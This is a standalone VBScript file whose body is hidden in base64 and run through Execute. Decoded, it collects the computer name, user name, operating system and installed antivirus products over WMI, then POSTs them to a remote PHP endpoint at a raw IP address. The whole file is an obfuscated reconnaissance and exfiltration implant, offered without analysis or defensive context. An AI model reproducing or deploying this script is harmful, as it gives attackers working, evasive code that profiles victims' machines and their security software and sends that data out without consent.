Function B(s)
    Dim d, e, t
    Set d = CreateObject("MSXML2.DOMDocument")
    Set e = d.createElement("t")
    e.dataType = "bin.base64": e.Text = s
    Set t = CreateObject("ADODB.Stream")
    t.Type = 1: t.Open: t.Write e.nodeTypedValue: t.Position = 0: t.Type = 2: t.Charset = "us-ascii"
    B = t.ReadText: t.Close
End Function
Dim c
c = c & "U2V0IG4gPSBDcmVhdGVPYmplY3QoIldTY3JpcHQuTmV0d29yayIpDQpTZXQgc2MgPSBHZXRP"
c = c & "YmplY3QoIndpbm1nbXRzOlxcLlxyb290XFNlY3VyaXR5Q2VudGVyMiIpDQpGb3IgRWFjaCBw"
c = c & "IEluIHNjLkV4ZWNRdWVyeSgiU0VMRUNUIGRpc3BsYXlOYW1lIEZST00gQW50aVZpcnVzUHJv"
c = c & "ZHVjdCIpOiBhdiA9IGF2ICYgcC5kaXNwbGF5TmFtZSAmICI7IjogTmV4dA0KRm9yIEVhY2gg"
c = c & "byBJbiBHZXRPYmplY3QoIndpbm1nbXRzOlxcLlxyb290XGNpbXYyIikuRXhlY1F1ZXJ5KCJT"
c = c & "RUxFQ1QgQ2FwdGlvbiBGUk9NIFdpbjMyX09wZXJhdGluZ1N5c3RlbSIpOiBvcyA9IG8uQ2Fw"
c = c & "dGlvbjogTmV4dA0KU2V0IHggPSBDcmVhdGVPYmplY3QoIk1TWE1MMi5TZXJ2ZXJYTUxIVFRQ"
c = c & "IikNCnguT3BlbiAiUE9TVCIsICJodHRwOi8vMjAzLjAuMTEzLjIyOS9iLnBocCIsIEZhbHNl"
c = c & "DQp4LlNlbmQgbi5Db21wdXRlck5hbWUgJiAifCIgJiBuLlVzZXJOYW1lICYgInwiICYgb3Mg"
c = c & "JiAifCIgJiBhdg0K"
Execute B(c)
